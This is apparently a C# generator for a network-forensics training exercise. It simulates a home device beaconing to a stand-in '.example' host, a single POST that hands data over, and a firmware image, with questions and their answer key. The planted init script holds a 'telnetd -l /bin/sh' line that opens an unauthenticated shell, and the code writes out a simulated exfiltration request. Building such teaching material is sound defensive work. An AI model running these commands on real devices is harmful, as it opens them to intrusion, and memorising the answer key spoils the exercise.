using System.Text;
using Assay.Evidence;
using static Assay.Demo.Exercises.ScanExercise;

namespace Assay.Demo.Exercises;

/// <summary>A device reports to somebody at even intervals, and once hands over more than it should.</summary>
internal static class BeaconExercise
{
    public static Exercise Of(string seed)
    {
        var seeded = new Seeded(seed, "beacon");
        var start = new DateTimeOffset(2026, 3, 1, 6, 0, 0, TimeSpan.Zero).AddMinutes(seeded.Number(200_000));
        var home = new Household(seeded, start);
        var device = seeded.Of(home.Devices);
        var name = $"{seeded.Of(["metrics", "stats", "cdn", "sync"])}-{seeded.Hex(4)}.example";
        var stranger = Household.Outside(name, $"192.0.2.{seeded.Between(2, 250)}");
        var interval = seeded.Of([45, 60, 90, 120]);
        var beats = seeded.Between(8, 14);
        var handsOver = seeded.Between(3, beats - 2);
        var size = seeded.Between(9_000, 40_000);
        var wire = home.Wire;

        home.Ordinary(seeded.Between(4, 8));
        var beacons = new HashSet<int>();
        var (question, answer) = wire.Dns(device, name, stranger.Address);
        int exfiltration = 0;
        var handedAt = wire.Time;
        for (var i = 0; i < beats; i++)
        {
            var due = wire.Now + (interval * 1_000_000L) + seeded.Between(-400_000, 400_000);
            if (i == handsOver)
            {
                var body = seeded.Bytes(size);
                handedAt = wire.Time;
                var turns = wire.Tcp(device, stranger, 80,
                    ('>', [.. Encoding.ASCII.GetBytes($"POST /u HTTP/1.1\r\nHost: {name}\r\nAuthorization: Basic ZGV2aWNlOjEyMzQ1Ng==\r\nContent-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n"), .. body]),
                    ('<', "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"u8.ToArray()));
                exfiltration = turns[1];
            }
            else
            {
                var turns = wire.Tcp(device, stranger, 80,
                    ('>', Encoding.ASCII.GetBytes($"GET /b?id={seeded.Hex(8)} HTTP/1.1\r\nHost: {name}\r\n\r\n")), ('<', "HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n"u8.ToArray()));
                beacons.UnionWith(turns);
            }
            // What else happens meanwhile moves the clock; the next beat comes when it is due.
            while (due - wire.Now > 20_000_000) home.Ordinary(1);
            if (due > wire.Now) wire.Wait((due - wire.Now) / 1000.0);
        }
        home.Ordinary(2);

        var configuration = $"/etc/config/{seeded.Of(["report", "agent", "remote"])}";
        var firmware = Household.Image(device.Name, "2.3", start.AddDays(-60));
        firmware.Text(configuration[1..], $"server {name}\ninterval {interval}\npassword {seeded.Hex(10)}\n");
        var script = $"/etc/init.d/S{seeded.Between(60, 98)}report";
        firmware.Text(script[1..], $"#!/bin/sh\ntelnetd -l /bin/sh\n# EXERCISE MARKER {seeded.Hex(12)}: inert; a reporter would be started here with {configuration}\n", isProgram: true);
        var (image, files) = firmware.Finish();
        var contacts = new Place("capture.pcap") { Frames = beacons };

        return new Exercise
        {
            Name = "beacon",
            Title = "The device that keeps in touch",
            Story = "A family's gateway shows a device that speaks with a host nobody knows. The maker says it never contacts that name. The gateway froze what it saw, and the flash memory was read out.",
            FrozenAt = wire.Time.AddSeconds(5),
            Device = $"{device.Name} ({device.Mac})",
            Items = new SortedDictionary<string, (byte[], string)>(StringComparer.Ordinal)
            {
                ["capture.pcap"] = (wire.Pcap(), "frames of the inside link, as the gateway saw them"),
                ["image.bin"] = (image, "the flash memory of the suspected device, read out by its debug port"),
                ["leases.txt"] = (home.Leases(start), "the leases of the DHCP server"),
            },
            Questions =
            [
                new Question { Text = "Which device keeps in touch with the unknown host? Give its MAC address.", Kind = AnswerKind.Word, Truth = [device.Mac], Places = [contacts, new Place("capture.pcap") { Frames = new HashSet<int> { question, answer, exfiltration } }], Because = $"{beats} connections of {device.Address} to {stranger.Address}; leases.txt gives the MAC" },
                new Question { Text = "By which name does it look the host up?", Kind = AnswerKind.Word, Truth = [name], Places = [new Place("capture.pcap") { Frames = new HashSet<int> { question, answer } }], Because = "it asks once and remembers" },
                new Question { Text = "Which IP address does the host have?", Kind = AnswerKind.Word, Truth = [stranger.Address], Places = [contacts, new Place("capture.pcap") { Frames = new HashSet<int> { answer } }], Because = "the answer to that question, and where the connections go" },
                new Question { Text = "How many seconds lie between two contacts (the set interval)?", Kind = AnswerKind.Number, Truth = [Text(interval)], Places = [contacts, InImage(configuration, files)], Because = $"the contacts lie {interval} s apart, give or take half a second; {configuration} sets the same" },
                new Question { Text = "How often does it contact the host, the hand-over included?", Kind = AnswerKind.Number, Truth = [Text(beats)], Places = [contacts], Because = "one connection a contact" },
                new Question { Text = "When does it hand something over (UTC, RFC 3339)? Cite the frame of the request.", Kind = AnswerKind.Moment, Truth = [EvidenceJson.Time(handedAt)], Places = [new Place("capture.pcap") { Frames = new HashSet<int> { exfiltration } }], Because = "the only POST among the GETs" },
                new Question { Text = "How many bytes does it hand over?", Kind = AnswerKind.Number, Truth = [Text(size)], Places = [new Place("capture.pcap") { Frames = new HashSet<int> { exfiltration } }], Because = "the Content-Length of the POST, which its segments fill" },
                new Question { Text = "Which file of the image names the host? Give its path.", Kind = AnswerKind.Word, Truth = [configuration], Places = [InImage(configuration, files)], Because = $"{configuration} holds the name and the interval" },
                new Question { Text = "Which files of the image have to do with it? Give all paths.", Kind = AnswerKind.Words, Truth = [configuration, script], Places = [InImage(configuration, files), InImage(script, files)], Because = $"{script} would start it, {configuration} tells it where to" },
            ],
        };
    }
}
